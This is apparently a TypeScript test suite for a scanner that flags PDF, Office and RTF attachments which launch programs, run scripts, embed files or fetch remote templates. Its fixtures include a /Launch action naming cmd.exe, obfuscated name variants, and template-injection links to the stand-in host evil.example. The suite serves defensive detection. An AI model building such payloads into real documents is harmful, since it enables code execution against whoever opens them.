/** Documents that do more than being read are told, however what they do is written or packed. */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { zipSync } from 'fflate';
import { afterAll, describe, expect, test } from 'vitest';
import { actOf, fetchedFrom, holdsPackage, partOf } from './attachment-acts.ts';
import { judgeWhole } from './attachment-bytes.ts';

const room = mkdtempSync(join(tmpdir(), 'acts-'));
afterAll(() => rmSync(room, { recursive: true }));
function judged(ending: string, bytes: Uint8Array) {
  const path = join(room, `a${ending}`);
  writeFileSync(path, bytes);
  return judgeWhole(path, `a${ending}`, ending, bytes.length);
}

const pdf = (...parts: readonly (string | Buffer)[]) =>
  Buffer.concat(
    ['%PDF-1.7\n1 0 obj\n', ...parts, '\nendobj\n%%EOF\n'].map((part) =>
      Buffer.from(part as string, 'latin1'),
    ),
  );
const packet = (objects: string, feed = '\n') => {
  const bytes = deflateSync(Buffer.from(objects, 'latin1'));
  return pdf(`<</Type/ObjStm/N 1/Length ${bytes.length}>>stream${feed}`, bytes, '\nendstream');
};

describe('a PDF', () => {
  test.each<[string, Buffer]>([
    ['plainly', pdf('<</OpenAction<</S/Launch/F(cmd.exe)>>>>')],
    ['with spaces and lines', pdf('<</S  \r\n /Launch/F(a)>>')],
    ['in signs written as numbers', pdf('<</S/L#61unch/F(a)>>')],
    ['under a key written as a number', pdf('<</#53 /Launch>>')],
    ['packed with other objects', packet('5 0 <</S/Launch>>')],
    ['packed, behind another end of line', packet('5 0 <</S /Launch>>', '\r\n')],
    ['packed, far from the beginning', Buffer.concat([Buffer.alloc(5000), packet('5 0 <</S/Launch>>')])],
    ['packed at the very beginning', packet('5 0 <</S/Launch>>').subarray(24)],
    ['in the second packet', Buffer.concat([packet('5 0 <</S/GoTo>>'), packet('5 0 <</S/Launch>>')])],
    ['beside a small program', pdf('<</S/JavaScript/JS(a)>><</S/Launch>>')],
  ])('that starts a program, %s, is refused', (_how, bytes) => {
    expect(actOf(bytes)).toBe('starts');
    const found = judged('.pdf', bytes);
    expect(found).toMatchObject({ rule: 'attachment-program' });
    expect(found?.severity).toBeUndefined();
  });

  test.each<[string, Buffer]>([
    ['plainly', pdf('<</S/JavaScript/JS(app.alert(1))>>')],
    ['packed', packet('5 0 <</JS(a)/S/JavaScript>>')],
  ])('with a small program, %s, is told: forms have some', (_how, bytes) => {
    expect(judged('.pdf', bytes)).toMatchObject({ rule: 'attachment-program', severity: 'warning' });
  });

  test.each<[string, Buffer]>([
    ['plainly', pdf('<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>')],
    ['by reference', pdf('<</Type/Filespec/EF 7 0 R>>')],
    ['in signs written as numbers', pdf('<</#45F <</F 5 0 R>>>>')],
    ['packed', packet('5 0 <</F(a)/EF<</F 6 0 R>>>>')],
  ])('with another file within it, %s, is told', (_how, bytes) => {
    expect(actOf(bytes)).toBe('carries');
    expect(judged('.pdf', bytes)).toMatchObject({
      rule: 'attachment-program',
      severity: 'warning',
      message: expect.stringContaining('tệp khác đính kèm bên trong'),
    });
  });

  test('tells of a packet up to where the file ends', () => {
    const bytes = packet('5 0 <</S/Launch>>');
    expect(actOf(bytes.subarray(0, bytes.indexOf('\nendstream')))).toBe('starts');
  });

  test('tells of a packet within four hundred bytes where it begins', () => {
    const bytes = deflateSync(Buffer.from('5 0 <</S/Launch>>'));
    const apart = (length: number) =>
      pdf('/ObjStm', ' '.repeat(length - 7), 'stream\n', bytes, '\nendstream');
    expect(actOf(apart(400))).toBe('starts');
    expect(actOf(apart(401))).toBeUndefined();
  });

  test('is told by the worst that it does', () => {
    expect(actOf(pdf('<</EF<</F 5 0 R>>>><</S/JavaScript>>'))).toBe('runs');
    expect(actOf(pdf('<</EF<</F 5 0 R>>>><</S/Launch>>'))).toBe('starts');
  });

  test.each<[string, Buffer]>([
    ['a link', pdf('<</S/URI/URI(https://a.vn/)>>')],
    ['a place in itself', pdf('<</S/GoTo/D[1 0 R]>>')],
    ['those words', pdf('(bam /Launch de mo, /JavaScript thi khong)')],
    ['a longer name', pdf('<</S/LaunchPad/EFG<<>>>>')],
    ['a packet that is broken', pdf('<</Type/ObjStm>>stream\nxyz\nendstream')],
    ['a packet without its end', pdf('<</Type/ObjStm>>')],
  ])('with %s is only read', (_what, bytes) => {
    expect(judged('.pdf', bytes)).toBeUndefined();
  });
});

/** An object as office programs keep it: its streams are named in UTF-16, its kind is not. */
const object = (stream: string, kind: string) =>
  Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.alloc(700),
    Buffer.from(stream, 'utf16le'),
    Buffer.from(`\0${kind}\0`),
  ]);
const PACKAGE = object('\u0001Ole10Native', 'Package');

describe('an office file', () => {
  const word = (name: string, bytes: Uint8Array, level: 0 | 6 = 6) =>
    zipSync(
      { '[Content_Types].xml': new Uint8Array(5), 'word/document.xml': new Uint8Array(9), [name]: bytes },
      { level },
    );

  test('that carries another file is refused, packed or as it is, and of the older kind', () => {
    for (const level of [0, 6] as const)
      expect(
        judged('.docx', word('word/embeddings/oleObject1.bin', PACKAGE, level)),
        `level ${level}`,
      ).toMatchObject({
        rule: 'attachment-program',
        message: expect.stringContaining('nhúng một tệp khác'),
      });
    expect(judged('.doc', PACKAGE)).toMatchObject({ rule: 'attachment-program' });
    expect(judged('.doc', PACKAGE)?.severity).toBeUndefined();
  });

  test.each([
    ['a formula', object('Equation Native', 'Equation.3')],
    ['a drawing of Paint', object('\u0001Ole10Native', 'PBrush')],
  ])('with %s is not', (_what, bytes) => {
    expect(holdsPackage(bytes)).toBe(false);
    expect(judged('.docx', word('word/embeddings/oleObject1.bin', bytes))).toBeUndefined();
    expect(judged('.doc', bytes)).toBeUndefined();
  });

  const relations = (type: string, target: string, more = '') =>
    Buffer.from(
      `<?xml version="1.0"?><Relationships xmlns="x"><Relationship Id="r1" Type="http://schemas.example/${type}" Target="${target}" TargetMode="External"/>${more}</Relationships>`,
    );
  const SETTINGS = 'word/_rels/settings.xml.rels';

  test.each<[string, string, Uint8Array]>([
    ['a template', SETTINGS, relations('attachedTemplate', 'https://evil.example/a.dotm')],
    [
      'a template under signs as numbers',
      SETTINGS,
      relations('attachedTemplate', '&#104;ttp://evil.example/a'),
    ],
    ['a template of another machine', SETTINGS, relations('attachedTemplate', 'file://10.0.0.1/a.dotm')],
    ['an object', 'word/_rels/document.xml.rels', relations('oleObject', 'mhtml:http://evil.example/a')],
    ['a frame', 'word/_rels/webSettings.xml.rels', relations('frame', '\\\\evil.example\\a')],
    [
      'in UTF-16',
      SETTINGS,
      Buffer.from(`\uFEFF${relations('attachedTemplate', 'http://evil.example/a')}`, 'utf16le'),
    ],
    [
      'single quotes, another order',
      SETTINGS,
      Buffer.from(
        "<r:Relationship TargetMode='External' Target = 'http://evil.example/a' Type='http://x/attachedTemplate' />",
      ),
    ],
  ])('that fetches %s is refused', (_what, name, bytes) => {
    expect(judged('.docx', word(name, bytes))).toMatchObject({
      rule: 'attachment-program',
      message: expect.stringContaining('mỗi khi mở'),
    });
  });

  test.each([
    ['a template of its own machine', relations('attachedTemplate', 'file:///C:\\Users\\A\\Normal.dotm')],
    ['a link', relations('hyperlink', 'https://a.example/')],
    ['a part of its own', relations('oleObject', 'embeddings/oleObject1.bin')],
  ])('that names %s is not', (_what, bytes) => {
    expect(judged('.docx', word(SETTINGS, bytes))).toBeUndefined();
  });

  test('of RTF that fetches a template is refused', () => {
    const rtf = (target: string) => Buffer.from(`{\\rtf1{\\*\\template ${target}}Chu}`, 'latin1');
    expect(judged('.doc', rtf('http://evil.example/a.dotm'))).toMatchObject({ rule: 'attachment-program' });
    expect(judged('.doc', rtf('C:\\\\Users\\\\Normal.dotm'))).toBeUndefined();
  });

  test('is told with the address, without what stands around it', () => {
    const of = (target: string) => fetchedFrom(relations('attachedTemplate', target));
    expect(of(' https://evil.example/a \n')).toBe('https://evil.example/a');
    expect(of('&#x68;ttp://evil.example/a')).toBe('http://evil.example/a');
    // A number that is no letter is none.
    expect(of('&#x110000;http://evil.example/')).toBeUndefined();
    expect(fetchedFrom(Buffer.from('<Relationship Target="https://evil.example/"/>'))).toBeUndefined();
    expect(fetchedFrom(Buffer.from('<Relationship Type="http://x/frame" Id="a"/>'))).toBeUndefined();
  });

  test('gives a part as it was: behind its head, its name and its notes', () => {
    const head = Buffer.alloc(30);
    head.writeUInt16LE(3, 26);
    head.writeUInt16LE(2, 28);
    expect(partOf(Buffer.concat([head, Buffer.from('abc##chữ và sau')]), 5).toString()).toBe('chữ');
    expect(partOf(Buffer.alloc(29), 5)).toHaveLength(0);
  });

  test('whose object cannot be unpacked is not kept back for that', () => {
    const bytes = Buffer.from(word('word/embeddings/oleObject1.bin', PACKAGE));
    bytes.fill(0xff, bytes.indexOf('oleObject1.bin') + 14, bytes.indexOf('oleObject1.bin') + 40);
    expect(judged('.docx', bytes)).toBeUndefined();
  });
});
